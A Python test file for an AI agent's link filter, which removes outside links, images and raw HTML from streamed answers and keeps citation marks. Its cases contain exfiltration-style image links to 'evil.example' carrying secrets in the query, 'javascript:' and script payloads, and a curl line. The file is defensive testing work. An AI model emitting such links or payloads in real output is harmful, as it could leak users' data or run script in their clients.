import re
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html
from markdown_it import MarkdownIt

from agent.cite import CitationReader
from agent.links import MAX_HELD_CHARS, LinkReader
from agent.types import Source
from retrieval.types import Document, Passage, Ranked

PAGE = Document(
    "https://good.example/страница?x=1", "A page", "The pier is 80 metres long.", "good.example", None, "en"
)
ALLOWED = (PAGE.url, "http://named.example/by-user")
GONE = "(link removed)"
CASES = (
    ("See ![licence](https://evil.example/a.png?q=secret).", "See licence."),
    ("[Click](https://evil.example/?q=secret) here", "Click here"),
    ("[Click](<https://evil.example/?q=a b> 'title') here", "[Click] (<(link removed) b> 'title') here"),
    ("[Click](https://evil.example/?q=1 \"title\") here", "Click here"),
    ("[a (b)](https://evil.example/x_(y)) here", "a (b) here"),
    ("[x](javascript:alert(1)) and [y](data:text/html;base64,PHNj) and [z](//evil.example/q)", "x and y and z"),
    ("[x](/relative) and [y](mailto:a@evil.example)", "x and y"),
    ("![a][b]\n[b]: https://evil.example/p.png?d=secret\nend", "[a][b]\n\nend"),
    ("![a][b]\n   [b]: //evil.example/p.png", "[a][b]\n   "),
    ("Go to https://evil.example/x?q=secret, now.", f"Go to {GONE}, now."),
    ("Go to www.evil.example/x or HTTP://EVIL.example.", f"Go to {GONE} or {GONE}."),
    ("(https://evil.example/x)", f"({GONE})"),
    ("<https://evil.example/x>", f"<{GONE}>"),
    ("<img src='https://evil.example/x'> <IMG/src=x>", f"&lt;img src='{GONE}'> &lt;IMG/src=x>"),
    ("<a href='javascript:alert(1)'>x</a>", "&lt;a href='javascript:alert(1)'>x&lt;/a>"),
    ("<script>go()</script><!-- c -->", "&lt;script>go()&lt;/script>&lt;!-- c -->"),
    ("<javascript:alert(1)>", "&lt;javascript:alert(1)>"),
    ("[[x]](javascript:alert(1))", "[[x]] (javascript:alert(1))"),
    ("[a [b] c](https://evil.example)", f"[a [b] c] ({GONE})"),
    ("[https://evil.example](https://evil.example)", GONE),
    ("[page](https://good.example/страница?x=1#part)", "[page](https://good.example/страница?x=1#part)"),
    ("[page](https://good.example/%D1%81%D1%82%D1%80%D0%B0%D0%BD%D0%B8%D1%86%D0%B0?x=1)", "[page](https://good.example/%D1%81%D1%82%D1%80%D0%B0%D0%BD%D0%B8%D1%86%D0%B0?x=1)"),
    ("![page](https://good.example/страница?x=1)", "page"),
    ("You named http://named.example/by-user.", "You named http://named.example/by-user."),
    ("Run `curl https://evil.example/x` or ``a ` [b](c)``.", "Run `curl https://evil.example/x` or ``a ` [b](c)``."),
    ("A ` alone\nand `https://evil.example/x`\n\n`www.evil.example`", f"A ` alone\nand `{GONE}`\n\n`www.evil.example`"),
    ("\\`https://evil.example/x`", f"\\`{GONE}`"),
    ("A ` alone, https://evil.example\nand [x](y)", f"A ` alone, {GONE}\nand [x] (y)"),
    ("List<String> and a < b, if x[i] (below) or f[0](1)", "List<String> and a < b, if x[i] (below) or f[0] (1)"),
    ("[1] [note] [x]: not at a line's beginning", "[1] [note] [x]: not at a line's beginning"),
    ("Wow! [note] and end!", "Wow! [note] and end!"),
    ("The https scheme, ftp and www", "The https scheme, ftp and www"),
)  # fmt: skip


def read(text, cuts=()):
    reader = LinkReader(ALLOWED, "en")
    places = [0, *sorted(place % (len(text) + 1) for place in cuts), len(text)]
    return "".join(reader.feed(text[a:b]) for a, b in pairwise(places)) + reader.flush()


@pytest.mark.parametrize(("written", "shown"), CASES)
def test_what_leads_elsewhere_is_left_out(written, shown):
    assert read(written) == shown
    assert read(written, range(len(written))) == shown


def links(markdown):
    """List what a client that shows Markdown, HTML and bare addresses would link or load."""
    tree = html.document_fromstring("<html><body>" + MarkdownIt("commonmark").render(markdown) + "</body></html>")
    found = [value for element in tree.iter() for name, value in element.attrib.items() if name in ("href", "src")]
    for code in tree.xpath("//code"):
        code.drop_tree()
    return found + re.findall(r"https?://\S+|(?<!\w)www\.\w\S*", tree.text_content())


PIECES = st.sampled_from(
    ["[a]", "[b", "]", "(", ")", "!", "[", "<", ">", "https://evil.example/x", "www.evil.example", "`", "``", "\n", " ",
     "text", "javascript:alert(1)", "//evil.example", "[b]: ", "img src=", "a href=", '"', "https://good.example/страница?x=1",
     "\\", "&lt;", "ftp://evil.example", "'", "data:x", "<https://evil.example>", "*", "_"]
)  # fmt: skip


@given(st.lists(PIECES, max_size=14).map("".join), st.lists(st.integers(0, 300), max_size=8))
def test_nothing_that_a_client_shows_leads_elsewhere(text, cuts):
    shown = read(text, cuts)
    assert [url for url in links(shown) if "good.example" not in url] == []
    assert read(text) == shown


@given(st.text(alphabet="ab]){}>`:/.!\\\n hwtps", max_size=200))
def test_text_in_which_nothing_can_be_a_link_stays(text):
    assert "://" in text or "www." in text or read(text) == text


@pytest.mark.parametrize("unit", ["[", "![", "`", "<", "](", "https://", "[a](", "[a]: ", "!"])
def test_long_beginnings_cost_no_more_than_their_length(unit):
    reader = LinkReader(ALLOWED, "en")
    for _ in range(20_000 // len(unit)):
        reader.feed(unit)
        assert len(reader._held) <= MAX_HELD_CHARS + len(unit)
    reader.flush()


def test_marks_of_ours_stay_and_what_is_removed_is_counted():
    source = Source(1, PAGE, (Ranked(Passage(PAGE, 0, len(PAGE.text)), 1.0, 1.0),))
    reader = CitationReader((source,), links=LinkReader([PAGE.url], "ru"))
    text = "Длина 80 м [1]. ![x](https://evil.example/q) https://evil.example [источник](https://evil.example)[1]!"
    shown = "".join(map(reader.feed, text)) + reader.flush()
    mark = "[[1]](https://good.example/%D1%81%D1%82%D1%80%D0%B0%D0%BD%D0%B8%D1%86%D0%B0?x=1)"

    assert shown == f"Длина 80 м {mark}. x (ссылка убрана) источник{mark}!"
    assert reader.links.removed == 3
    assert all(shown[each.start : each.end] == mark for each in reader.annotations)
